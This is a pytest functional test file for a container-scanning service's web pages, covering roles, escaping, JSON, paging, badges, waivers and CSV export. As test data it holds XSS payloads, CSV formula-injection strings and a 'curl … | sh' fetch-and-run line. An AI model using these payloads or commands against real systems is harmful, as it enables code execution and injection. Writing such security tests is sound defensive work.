"""The status pages through the real app, store (SQLite and PostgreSQL) and Redis: roles, escaping, JSON, exports.

Every page renders for the roles that may read it (and sends anonymous readers to the login page when
anonymous reads are off); hostile strings from images are escaped; action forms show per role; every page
answers JSON for ``Accept: application/json``; the CSV export cannot smuggle a formula; badges carry the
verdict's colour; search jumps; hundreds of tags and findings are paged or capped; pages carry a strict CSP.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from dataclasses import dataclass
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient

from service.pages import BADGE_COLOURS, FINDINGS_SHOWN, TAGS_PER_PAGE, findings_to_csv, safe_cell
from service.webhook import REDIS_EXTENSION, SETTINGS_EXTENSION
from tests.support.accounts import OPERATOR, app_store, auth_settings, bearer, build_app, csrf, login, token, user
from tests.support.storage import digest_of, make_finding, make_report
from workers import audit
from workers.audit import AuditAction
from workers.domain import Action, MoveKind, Role, Severity, Verdict
from workers.store import Store

pytestmark = pytest.mark.functional

REPO = "team/app"
DIGEST = digest_of("page-manifest")  # malicious, with a hostile finding
HELD = digest_of("page-held")  # quarantined by a person
CLEAN = digest_of("page-clean")
QUEUED = digest_of("page-queued")
HOSTILE_PATH = "/opt/<script>alert('path')</script>"
HOSTILE_EVIDENCE = '"><img src=x onerror=alert(1)><script>alert("evidence")</script>'
HOSTILE_REASON = "<script>alert('reason')</script>"
REASON = "checked by hand"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
HTML_PAGES = (
    "/",
    "/repositories",
    f"/repositories/{REPO}",
    f"/images/{REPO}@{DIGEST}",
    f"/images/{REPO}:1.0",
    "/queue",
    "/search?q=team",
    "/waivers",
    "/audit",
)
_NAMES = itertools.count()
VIEWER_ONLY = frozenset({"/waivers", "/audit"})  # the security team's pages need a login even when reads are open


@dataclass(frozen=True)
class Site:
    """The app with a malicious image (hostile strings), a held one, a clean one and a queued one."""

    app: Flask
    store: Store

    def client(self) -> FlaskClient:
        return self.app.test_client()

    def as_role(self, role: Role | None, **options: object) -> FlaskClient:
        """A browser logged in with ``role`` (None: anonymous)."""
        client = self.client()
        if role is not None:
            name = f"{role.value}-{next(_NAMES)}"
            user(self.store, name, role, **options)
            login(client, name)
        return client


def _populate(app: Flask, store: Store) -> None:
    from workers.quarantine.jobs import request_move
    from workers.waivers import create_waiver

    hostile = make_finding(0, path=HOSTILE_PATH, evidence=HOSTILE_EVIDENCE, message="<b>bold</b> message")
    findings = [hostile, make_finding(1, severity=Severity.LOW), make_finding(2, waived=True, waiver_id=1)]
    store.record_push(REPO, DIGEST, tag="1.0", media_type=MANIFEST)
    store.save_report(make_report(REPO, DIGEST, findings=findings))
    store.record_push(REPO, HELD, tag="held", media_type=MANIFEST)
    store.save_report(make_report(REPO, HELD))
    store.record_push(REPO, CLEAN, tag="clean", media_type=MANIFEST)
    store.save_report(make_report(REPO, CLEAN, verdict=Verdict.CLEAN, action=Action.ALLOW, findings=[]))
    store.record_push(REPO, QUEUED, tag="queued", media_type=MANIFEST)
    conn = app.extensions[REDIS_EXTENSION]
    request_move(app.extensions[SETTINGS_EXTENSION], store, conn, REPO, HELD, MoveKind.QUARANTINE, OPERATOR, "held")
    create_waiver(
        store, OPERATOR, rule="miner.xmrig-config-2", reason="fixture", expires_at=store.now() + timedelta(days=3)
    )
    audit.record(store, OPERATOR, AuditAction.RESCAN, f"{REPO}@{DIGEST}", reason=HOSTILE_REASON)


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch, redis_url: str, database_url: str) -> Site:
    app = build_app(monkeypatch, auth_settings(redis_url, database_url))
    store = app_store(app)
    _populate(app, store)
    return Site(app=app, store=store)


@pytest.fixture
def closed_site(monkeypatch: pytest.MonkeyPatch, redis_url: str, database_url: str) -> Site:
    app = build_app(monkeypatch, auth_settings(redis_url, database_url, anonymous_read=False))
    store = app_store(app)
    _populate(app, store)
    return Site(app=app, store=store)


def text(response: object) -> str:
    return response.get_data(as_text=True)  # type: ignore[attr-defined,no-any-return]


# -- every page, every role --------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [None, Role.VIEWER, Role.DEVELOPER, Role.SECURITY], ids=lambda r: r or "anonymous")
def test_every_page_renders_for_each_role(site: Site, role: Role | None) -> None:
    client = site.as_role(role)
    for path in HTML_PAGES:
        response = client.get(path)
        if role is None and path in VIEWER_ONLY:
            assert response.status_code == 303 and response.headers["Location"].startswith("/login?next="), path
            continue
        assert response.status_code == 200, (path, text(response)[:500])
        assert response.mimetype == "text/html"
        body = text(response)
        assert '<html lang="en">' in body and 'class="skip" href="#main"' in body and "<h1" in body, path
        csp = response.headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp
        assert "<script>" not in body and "<style>" not in body, f"{path}: inline script or style"
        # Nothing is fetched from elsewhere: every script, style sheet and image comes from Tollgate.
        fetched = re.findall(r'<(?:script|img|link)\b[^>]*(?:src|href)="([^"]*)"', body)
        assert all(url.startswith("/") and not url.startswith("//") for url in fetched), (path, fetched)


def test_static_assets_are_served_by_tollgate(site: Site) -> None:
    client = site.client()
    page = text(client.get("/"))
    assets = re.findall(r'(?:src|href)="(/static/[^"]+)"', page)
    assert {a.rsplit("/", 1)[1] for a in assets} == {"tollgate.css", "tollgate.js", "favicon.svg"}
    for asset in assets:
        response = client.get(asset)
        assert response.status_code == 200 and response.data
    assert "@media" in text(client.get("/static/tollgate.css"))


def test_anonymous_reads_off_sends_to_login_but_badges_stay_public(closed_site: Site) -> None:
    client = closed_site.client()
    for path in HTML_PAGES:
        response = client.get(path)
        assert response.status_code == 303 and response.headers["Location"].startswith("/login?next="), path
        as_json = client.get(path, headers={"Accept": "application/json"})
        assert as_json.status_code == 401 and as_json.get_json()["error"] == "unauthorized", path
    for path in (f"/images/{REPO}@{DIGEST}/findings.csv", f"/images/{REPO}@{DIGEST}/live"):
        assert client.get(path).status_code == 303, path
    badge = client.get(f"/badge/{REPO}:1.0.svg")
    assert badge.status_code == 200 and "malicious" in text(badge)
    viewer = closed_site.as_role(Role.VIEWER)
    for path in HTML_PAGES:
        assert viewer.get(path).status_code == 200, path
    login_page = client.get("/login")
    assert login_page.status_code == 200 and 'data-testid="login-submit"' in text(login_page)
    assert 'name="name"' in text(login_page) and 'name="password"' in text(login_page)


# -- escaping ----------------------------------------------------------------------------------------------------


def test_hostile_strings_are_escaped_everywhere(site: Site) -> None:
    client = site.as_role(Role.SECURITY)
    for path in (f"/images/{REPO}@{DIGEST}", f"/images/{REPO}@{DIGEST}/live", "/audit", f"/images/{REPO}:1.0"):
        body = text(client.get(path))
        assert "<script>alert" not in body and "<img src=x" not in body and "<b>bold</b>" not in body, path
    page = text(client.get(f"/images/{REPO}@{DIGEST}"))
    assert "&lt;script&gt;alert(&#39;path&#39;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(&#39;reason&#39;)&lt;/script&gt;" in page  # the timeline's reason
    assert "&lt;b&gt;bold&lt;/b&gt; message" in page


def test_hostile_search_and_filters_are_escaped(site: Site) -> None:
    client = site.as_role(Role.VIEWER)
    body = text(client.get("/search", query_string={"q": "<script>x</script>"}))
    assert "<script>x" not in body and "&lt;script&gt;x&lt;/script&gt;" in body
    body = text(client.get("/audit", query_string={"actor": '"><script>y</script>'}))
    assert "<script>y" not in body and "&#34;&gt;&lt;script&gt;y" in body
    body = text(client.get("/repositories", query_string={"q": '"><script>z</script>'}))
    assert "<script>z" not in body


# -- the image page ----------------------------------------------------------------------------------------------


def test_the_image_page_shows_the_contract(site: Site) -> None:
    page = text(site.client().get(f"/images/{REPO}@{DIGEST}"))
    assert re.search(r'data-testid="status">done<', page)
    assert re.search(r'data-testid="verdict">malicious<', page)
    assert re.search(r'data-testid="action">quarantine<', page)
    findings = re.findall(r'data-testid="finding" data-rule="([^"]+)" data-severity="([^"]+)"', page)
    assert sorted(findings) == [
        ("miner.xmrig-config-0", "critical"),
        ("miner.xmrig-config-1", "low"),
        ("miner.xmrig-config-2", "critical"),
    ]
    assert page.index('data-severity="critical"') < page.index('data-severity="low"')  # most severe first
    assert "T1496" in page and "https://attack.mitre.org/techniques/T1496/" in page
    assert "RUN curl -s http://203.0.113.7/x | sh" in page and "In final filesystem" in page
    assert 'data-testid="waived"' in page and "Export" in page
    assert re.search(r'data-testid="quarantine-state">none<', page)
    assert re.search(r'data-testid="quarantine-copy">none<', page)
    assert 'data-testid="timeline"' in page and 'data-action="rescan"' in page
    assert "a miner configuration in the final filesystem" in page  # the reason in plain words
    assert "https://example.test/buildkit" in page  # provenance
    assert 'data-live="on"' in page  # a quarantine verdict whose move has not shown up yet: keep polling
    assert 'data-live="off"' in text(site.client().get(f"/images/{REPO}@{CLEAN}"))


def test_a_held_image_shows_its_quarantine(site: Site) -> None:
    page = text(site.client().get(f"/images/{REPO}@{HELD}"))
    state = re.search(r'data-testid="quarantine-state">(.*?)</dd>', page, re.S)
    assert state and "preserving" in state.group(1) and "manual" in state.group(1)
    assert 'data-testid="quarantine-copy">being copied to <code>quarantine/team/app</code>' in page
    assert 'data-live="on"' in page  # the move is in progress: the page keeps polling
    assert 'data-action="quarantine"' in page


def test_a_queued_image_is_live_until_done(site: Site) -> None:
    client = site.client()
    page = text(client.get(f"/images/{REPO}@{QUEUED}"))
    assert re.search(r'data-testid="status">queued<', page) and 'data-live="on"' in page
    assert re.search(r'data-testid="verdict"><', page)
    assert '<meta http-equiv="refresh" content="5">' in page  # without JavaScript, the page refreshes itself
    live = client.get(f"/images/{REPO}@{QUEUED}/live")
    assert live.status_code == 200 and live.headers["X-Tollgate-Live"] == "on"
    assert live.headers["Cache-Control"] == "no-store"
    site.store.mark_scanning(REPO, QUEUED, ruleset="r")
    live = client.get(f"/images/{REPO}@{QUEUED}/live")
    assert re.search(r'data-testid="status">scanning<', text(live))
    site.store.save_report(make_report(REPO, QUEUED, verdict=Verdict.CLEAN, action=Action.ALLOW, findings=[]))
    live = client.get(f"/images/{REPO}@{QUEUED}/live")
    assert live.headers["X-Tollgate-Live"] == "off"
    body = text(live)
    assert re.search(r'data-testid="status">done<', body) and re.search(r'data-testid="verdict">clean<', body)
    assert body.count("data-live-part") == 4 and "<html" not in body


def _buttons(page: str) -> set[str]:
    return set(re.findall(r'data-testid="(release|quarantine|rescan|waive)-button"', page))


def test_action_buttons_follow_the_role(site: Site) -> None:
    path = f"/images/{REPO}@{DIGEST}"
    anonymous = text(site.client().get(path))
    assert _buttons(anonymous) == set() and "Log in</a> to act" in anonymous
    assert _buttons(text(site.as_role(Role.VIEWER).get(path))) == set()
    developer = text(site.as_role(Role.DEVELOPER).get(path))
    assert _buttons(developer) == {"rescan"} and "Reason to rescan" in developer
    outsider = site.as_role(Role.DEVELOPER, repositories=["other/*"])
    assert _buttons(text(outsider.get(path))) == set()
    security = text(site.as_role(Role.SECURITY).get(path))
    assert _buttons(security) == {"release", "quarantine", "rescan", "waive"}
    assert security.count('name="reason"') == 4 and security.count('name="csrf_token"') >= 4
    assert 'data-confirm="Release team/app@' in security
    assert 'name="expires_in_days"' in security and '<label for="waive-reason">' in security
    scoped = site.as_role(Role.SECURITY, repositories=["team/*"])
    assert _buttons(text(scoped.get(path))) == {"release", "quarantine", "rescan"}  # waivers are global
    token_page = text(site.client().get(path, headers=bearer(token(site.store, Role.SECURITY))))
    assert "release-button" in token_page


def test_every_field_has_a_label(site: Site) -> None:
    client = site.as_role(Role.SECURITY)
    for path in (*HTML_PAGES, "/login"):
        page = text(client.get(path))
        ids = set(re.findall(r'<label for="([^"]+)"', page))
        for tag in re.findall(r"<(?:input|select|textarea)\b[^>]*>", page):
            if 'type="hidden"' in tag:
                continue
            match = re.search(r'id="([^"]+)"', tag)
            assert match and match.group(1) in ids, f"{path}: {tag}"


# -- many tags, many findings ------------------------------------------------------------------------------------


def test_hundreds_of_tags_are_paged(site: Site) -> None:
    for i in range(260):
        site.store.record_push("big/repo", digest_of(f"big-{i % 7}"), tag=f"v{i}", media_type=MANIFEST)
    client = site.client()
    first = text(client.get("/repositories/big/repo"))
    assert first.count("<tr data-tag=") == TAGS_PER_PAGE and "1\u201350 of 260" in first
    assert 'href="/repositories/big/repo?offset=50" rel="next"' in first
    last = text(client.get("/repositories/big/repo?offset=250"))
    assert last.count("<tr data-tag=") == 10 and 'rel="next"' not in last and "?offset=200" in last
    as_json = client.get("/repositories/big/repo?offset=50", headers={"Accept": "application/json"}).get_json()
    assert as_json["total"] == 260 and len(as_json["tags"]) == TAGS_PER_PAGE and as_json["next_offset"] == 100
    assert client.get("/repositories/big/repo?offset=x").status_code == 400
    assert client.get("/repositories/no/such").status_code == 404
    assert client.get("/repositories/BAD").status_code == 400


def test_hundreds_of_findings_are_capped_with_show_all(site: Site) -> None:
    many = [make_finding(i, severity=list(Severity)[i % 5]) for i in range(300)]
    digest = digest_of("many-findings")
    site.store.record_push(REPO, digest, tag="many", media_type=MANIFEST)
    site.store.save_report(make_report(REPO, digest, findings=many))
    client = site.client()
    page = text(client.get(f"/images/{REPO}:many"))
    assert page.count('data-testid="finding"') == FINDINGS_SHOWN
    assert "show all 300</a>" in page and "200 more not shown" in page
    assert '<details class="group group-critical" id="group-critical" open>' in page
    assert '<details class="group group-info" id="group-info">' in page  # lower severities start collapsed
    everything = text(client.get(f"/images/{REPO}:many?findings=all"))
    assert everything.count('data-testid="finding"') == 300 and "more not shown" not in everything
    assert 'data-live-url="/images/team/app@' in everything and '/live?findings=all"' in everything


# -- JSON beside every page --------------------------------------------------------------------------------------


def test_every_page_answers_json(site: Site) -> None:
    client = site.as_role(Role.VIEWER)
    accept = {"Accept": "application/json"}
    keys = {
        "/": {"counts", "queue", "failed", "recent"},
        "/repositories": {"repositories", "total", "offset", "limit", "next_offset"},
        f"/repositories/{REPO}": {"repository", "tags", "total", "untagged"},
        "/queue": {"depths", "running", "queued", "retrying", "failed"},
        "/search?q=team": {"query", "repositories", "tags", "images"},
        "/waivers": {"waivers", "include_inactive"},
        "/audit": {"events", "filters", "next_before"},
    }
    for path, expected in keys.items():
        response = client.get(path, headers=accept)
        assert response.status_code == 200 and response.is_json, path
        assert expected <= set(response.get_json()), path
        assert "Accept" in response.headers["Vary"]
    record = client.get(f"/images/{REPO}@{DIGEST}", headers=accept).get_json()
    api = client.get(f"/api/v1/images/{REPO}@{DIGEST}").get_json()
    assert set(api) <= set(record) and {"timeline", "stage"} <= set(record)
    assert record["findings"] == api["findings"] and record["quarantine"] == api["quarantine"]
    overview = client.get("/", headers=accept).get_json()
    assert overview["counts"]["malicious"] == 2 and overview["counts"]["queued"] == 1
    missing = client.get(f"/images/{REPO}:nope", headers=accept)
    assert missing.status_code == 404 and missing.get_json()["error"] == "not found"
    assert client.get("/images/BAD@x", headers=accept).status_code == 400


def test_the_overview_counts_and_queue(site: Site) -> None:
    page = text(site.client().get("/"))
    counts = re.search(r'data-testid="verdict-counts">(.*?)</dl>', page, re.S)
    assert counts and 'data-count="malicious">2<' in counts.group(1) and 'data-count="clean">1<' in counts.group(1)
    assert "Recent pushes" in page and "team/app@sha256:" in page
    queue = text(site.client().get("/queue"))
    assert 'data-testid="queue"' in queue and "Running" in queue and "Failed" in queue


def test_the_queue_shows_waiting_jobs(site: Site) -> None:
    from workers.rescans import request_rescan

    app = site.app
    request_rescan(
        app.extensions[SETTINGS_EXTENSION],
        site.store,
        app.extensions[REDIS_EXTENSION],
        REPO,
        CLEAN,
        ruleset="rules-test-1",
        actor=OPERATOR,
        reason=REASON,
    )
    listing = site.client().get("/queue", headers={"Accept": "application/json"}).get_json()
    waiting = [job for job in listing["queued"] if job["digest"] == CLEAN]
    assert waiting and waiting[0]["repository"] == REPO and listing["depths"]["tollgate-rescan"] >= 1
    page = text(site.client().get("/queue"))
    assert 'data-testid="queued-job"' in page and f"/images/{REPO}@{CLEAN}" in page


# -- exports -----------------------------------------------------------------------------------------------------


def test_findings_export_csv_is_injection_safe(site: Site) -> None:
    digest = digest_of("formulas")
    formulas = [
        make_finding(0, evidence='=HYPERLINK("http://evil.example","x")', path="+cmd|' /C calc'!A0"),
        make_finding(1, evidence="-2+3", path="@SUM(A1)", step="\t=1", message="plain, with a comma"),
    ]
    site.store.record_push(REPO, digest, tag="formulas", media_type=MANIFEST)
    site.store.save_report(make_report(REPO, digest, findings=formulas))
    response = site.client().get(f"/images/{REPO}:formulas/findings.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"] and ".csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(text(response))))
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["evidence"] == '\'=HYPERLINK("http://evil.example","x")' and rows[0]["path"].startswith("'+")
    assert rows[1]["message"] == "plain, with a comma" and rows[1]["in_final_fs"] == "true"
    exported = site.client().get(f"/images/{REPO}:formulas/findings.json")
    assert exported.status_code == 200 and exported.get_json()["findings"][0]["evidence"].startswith("=HYPERLINK")
    assert safe_cell(None) == "" and safe_cell(False) == "false" and safe_cell("-1") == "'-1"
    assert findings_to_csv([]).startswith("rule,severity")


# -- badges ------------------------------------------------------------------------------------------------------


def test_badges_show_the_verdict_in_its_colour(site: Site) -> None:
    site.store.record_push(REPO, digest_of("broken"), tag="broken", media_type=MANIFEST)
    site.store.mark_error(REPO, digest_of("broken"), "registry said 500", ruleset="r")
    suspicious = digest_of("suspicious")
    site.store.record_push(REPO, suspicious, tag="odd", media_type=MANIFEST)
    site.store.save_report(make_report(REPO, suspicious, verdict=Verdict.SUSPICIOUS, action=Action.WARN))
    client = site.client()
    for tag, word in (
        ("1.0", "malicious"),
        ("clean", "clean"),
        ("odd", "suspicious"),
        ("queued", "pending"),
        ("broken", "error"),
    ):
        response = client.get(f"/badge/{REPO}:{tag}.svg")
        assert response.status_code == 200 and response.mimetype == "image/svg+xml", tag
        body = text(response)
        assert f">{word}</text>" in body and BADGE_COLOURS[word] in body, tag
        assert response.headers["Cache-Control"] == "max-age=60" and response.headers["ETag"]
        again = client.get(f"/badge/{REPO}:{tag}.svg", headers={"If-None-Match": response.headers["ETag"]})
        assert again.status_code == 304
    for path in (f"/badge/{REPO}:nope.svg", "/badge/nothing.svg", f"/badge/{REPO}:1.0.png", "/badge/BAD:1.svg"):
        response = client.get(path)
        assert response.status_code == 404 and ">unknown</text>" in text(response), path
        assert BADGE_COLOURS["unknown"] in text(response)


# -- search ------------------------------------------------------------------------------------------------------


def test_search_jumps_to_what_it_names(site: Site) -> None:
    client = site.client()
    jumps = {
        DIGEST: f"/images/{REPO}@{DIGEST}",
        f"{REPO}:1.0": f"/images/{REPO}@{DIGEST}",
        f"{REPO}@{HELD}": f"/images/{REPO}@{HELD}",
        REPO: f"/repositories/{REPO}",
    }
    for query, location in jumps.items():
        response = client.get("/search", query_string={"q": query})
        assert response.status_code == 303 and response.headers["Location"] == location, query
    listing = text(client.get("/search?q=app"))
    assert f'href="/repositories/{REPO}"' in listing
    by_tag = text(client.get("/search?q=clean"))
    assert f"/images/{REPO}:clean" in by_tag
    by_prefix = text(client.get(f"/search?q={DIGEST[:19]}"))
    assert f"/images/{REPO}@{DIGEST}" in by_prefix
    assert "Nothing matches" in text(client.get("/search?q=zzz-nothing"))
    assert "Nothing matches" in text(client.get(f"/search?q={REPO}:missing"))
    assert client.get("/search").status_code == 200
    as_json = client.get(f"/search?q={DIGEST}", headers={"Accept": "application/json"}).get_json()
    assert as_json["jump"] == f"/images/{REPO}@{DIGEST}"


# -- waivers and audit -------------------------------------------------------------------------------------------


def test_the_waiver_form(site: Site) -> None:
    from workers.waivers import list_waivers

    security = site.as_role(Role.SECURITY)
    form = {
        "rule": "miner.xmrig-config-0",
        "repository_pattern": REPO,
        "digest": DIGEST,
        "path_pattern": "",
        "expires_in_days": "14",
        "reason": "known test fixture",
        "next": f"/images/{REPO}@{DIGEST}",
    }
    assert security.post("/waivers", data=form).status_code == 403  # no CSRF token
    assert security.post("/waivers", data={**form, "reason": " ", "csrf_token": csrf(security)}).status_code == 400
    no_expiry = {k: v for k, v in form.items() if k != "expires_in_days"}
    assert security.post("/waivers", data={**no_expiry, "csrf_token": csrf(security)}).status_code == 400
    response = security.post("/waivers", data={**form, "csrf_token": csrf(security)})
    assert response.status_code == 303 and response.headers["Location"] == f"/images/{REPO}@{DIGEST}"
    assert "Waiver 2 created" in text(security.get(response.headers["Location"]))
    [waiver] = [w for w in list_waivers(site.store) if w.rule == "miner.xmrig-config-0"]
    assert waiver.digest == DIGEST and waiver.path_pattern is None and waiver.created_by.startswith("user:")
    developer = site.as_role(Role.DEVELOPER)
    assert developer.post("/waivers", data={**form, "csrf_token": csrf(developer)}).status_code == 403
    assert "Revoke" not in text(developer.get("/waivers"))
    page = text(security.get("/waivers"))
    assert 'id="waiver-2"' in page and "Reason to revoke" in page and "known test fixture" in page
    revoke = security.post(f"/waivers/{waiver.id}/revoke", data={"reason": REASON, "csrf_token": csrf(security)})
    assert revoke.status_code == 303 and "revoked" in text(security.get("/waivers?all=1"))
    again = security.post(f"/waivers/{waiver.id}/revoke", data={"reason": REASON, "csrf_token": csrf(security)})
    assert again.status_code == 409
    assert (
        security.post("/waivers/999/revoke", data={"reason": REASON, "csrf_token": csrf(security)}).status_code == 404
    )


def test_the_audit_page_filters_and_pages(site: Site) -> None:
    for i in range(130):
        audit.record(site.store, OPERATOR, AuditAction.RESCAN, f"other/repo@{digest_of(str(i))}", reason=f"r{i}")
    client = site.as_role(Role.VIEWER)
    first = text(client.get("/audit"))
    assert first.count('data-testid="audit-event"') == 100
    older = re.search(r'href="(/audit\?before=\d+)" rel="next"', first)
    assert older
    rest = text(client.get(older.group(1).replace("&amp;", "&")))
    assert 0 < rest.count('data-testid="audit-event"') < 100 and 'rel="next"' not in rest
    only = client.get("/audit?action=quarantine", headers={"Accept": "application/json"}).get_json()["events"]
    assert only and {e["action"] for e in only} == {"quarantine"}
    prefix = client.get("/audit?target_prefix=other/repo@&action=rescan")
    body = text(prefix)
    assert body.count('data-testid="audit-event"') == 100 and "before=" in body and "target_prefix=other" in body
    assert f'<a href="/images/{REPO}@{DIGEST}">' in text(client.get(f"/audit?target={REPO}@{DIGEST}"))
    assert client.get("/audit?action=nope").status_code == 400
    assert client.get("/audit?bogus=1").status_code == 400
    assert client.get("/audit?since=yesterday").status_code == 400
